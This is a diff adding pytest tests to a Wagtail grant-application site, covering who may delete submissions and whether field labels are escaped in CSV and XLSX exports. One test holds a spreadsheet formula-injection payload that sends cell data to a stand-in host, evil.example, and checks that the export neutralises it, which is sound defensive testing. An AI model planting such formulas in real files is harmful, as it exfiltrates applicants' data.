@@ -6,15 +6,16 @@ import io
 
 import pytest
 from django.contrib.auth.models import Group, Permission
+from django.contrib.messages import get_messages
 from django.urls import reverse
 from openpyxl import load_workbook
 from wagtail.models import GroupPagePermission, PageLogEntry
 
-from b52_wagtail.applications.models import ApplicationSubmission, Attachment
+from b52_wagtail.applications.models import ApplicationFormPage, ApplicationSubmission, Attachment
 from b52_wagtail.applications.storage import private_storage
 
 from .test_form import submit
-from .utils import make_call, make_form_page, pdf, pdf_bytes, valid_data
+from .utils import make_call, make_form_page, pdf, pdf_bytes, stored_files, valid_data
 
 pytestmark = pytest.mark.django_db
 
@@ -381,3 +382,111 @@ def test_the_list_runs_a_fixed_number_of_queries(
     assert small == large
     with django_assert_num_queries(large):
         client.get(url)
+
+
+# Deleting ----------------------------------------------------------------------------
+
+
+def grant_page_deletion(home):
+    editors = Group.objects.get(name="Redaktion")
+    for codename in ("delete_page", "bulk_delete_page"):
+        GroupPagePermission.objects.create(
+            group=editors, page=home, permission=Permission.objects.get(codename=codename)
+        )
+
+
+def delete_submissions(client, submission):
+    url = reverse("wagtailforms:delete_submissions", args=[submission.page_id])
+    return client.post(url + f"?selected-submissions={submission.pk}")
+
+
+def test_reading_applications_does_not_allow_deleting_them(client, users, submission):
+    # Wagtail's delete view lets whoever may edit the form page delete its
+    # submissions; a jury member who also edits pages only reads them.
+    client.force_login(users["jury_editor"])
+    assert (
+        client.get(reverse("wagtailforms:list_submissions", args=[submission.page_id])).status_code
+        == 200
+    )
+    response = delete_submissions(client, submission)
+    assert response.status_code in (302, 403)
+    assert ApplicationSubmission.objects.count() == 1
+    assert Attachment.objects.count() == 1
+
+
+def test_users_who_may_delete_applications_can_use_wagtails_delete_view(
+    client, users, submission, django_capture_on_commit_callbacks
+):
+    users["jury"].groups.get().permissions.add(
+        Permission.objects.get(codename="delete_applicationsubmission")
+    )
+    client.force_login(users["jury_editor"])
+    with django_capture_on_commit_callbacks(execute=True):
+        assert delete_submissions(client, submission).status_code == 302
+    assert ApplicationSubmission.objects.count() == 0
+    assert stored_files() == []
+
+
+@pytest.mark.parametrize("target", ["form", "call"])
+def test_a_page_editor_cannot_delete_the_applications_with_the_page(
+    client, users, submission, home, form_page, call, target
+):
+    grant_page_deletion(home)
+    client.force_login(users["editor"])
+    page = form_page if target == "form" else call
+    url = reverse("wagtailadmin_pages:delete", args=[page.pk])
+    for response in (client.get(url), client.post(url)):
+        assert response.status_code == 302
+        assert response["Location"] == reverse("wagtailadmin_explore", args=[call.pk])
+    assert ApplicationFormPage.objects.filter(pk=form_page.pk).exists()
+    assert ApplicationSubmission.objects.count() == 1
+    assert len(stored_files()) == 1
+    messages = [str(m) for m in get_messages(response.wsgi_request)]
+    assert any("enthält Bewerbungen" in message for message in messages), messages
+
+
+def test_a_page_editor_cannot_bulk_delete_the_applications(client, users, submission, home, call):
+    grant_page_deletion(home)
+    client.force_login(users["editor"])
+    url = reverse("wagtail_bulk_action", args=("wagtailcore", "page", "delete"))
+    response = client.post(url + f"?id={call.pk}&childOf={home.pk}")
+    assert response.status_code == 302
+    assert ApplicationSubmission.objects.count() == 1
+    assert len(stored_files()) == 1
+
+
+def test_a_form_without_applications_and_one_by_an_allowed_user_can_be_deleted(
+    client, users, submission, home, form_page, django_capture_on_commit_callbacks
+):
+    grant_page_deletion(home)
+    empty = make_form_page(form_page.call, slug="leer")
+    client.force_login(users["editor"])
+    client.post(reverse("wagtailadmin_pages:delete", args=[empty.pk]))
+    assert not ApplicationFormPage.objects.filter(pk=empty.pk).exists()
+    client.force_login(users["admin"])
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(reverse("wagtailadmin_pages:delete", args=[form_page.pk]))
+    assert ApplicationSubmission.objects.count() == 0
+    assert stored_files() == []
+
+
+# Export headings -------------------------------------------------------------------------
+
+
+def test_a_formula_in_an_editors_label_is_not_a_formula_in_the_export(
+    client, users, submission, form_page
+):
+    # A page editor without the applications permission names a field; the
+    # office's export must not run it.
+    label = '=HYPERLINK("http://evil.example/?"&F2,"Details")'
+    form_page.form_fields.update(label=label)
+    url = reverse("wagtailforms:list_submissions", args=[form_page.pk])
+    client.force_login(users["office"])
+    text = b"".join(client.get(url + "?export=csv").streaming_content).decode()
+    headings = next(csv.reader(io.StringIO(text)))
+    assert headings[-1] == "'" + label
+    response = client.get(url + "?export=xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    heading = list(sheet.iter_rows())[0][-1]
+    assert heading.data_type == "s"
+    assert heading.value == "'" + label
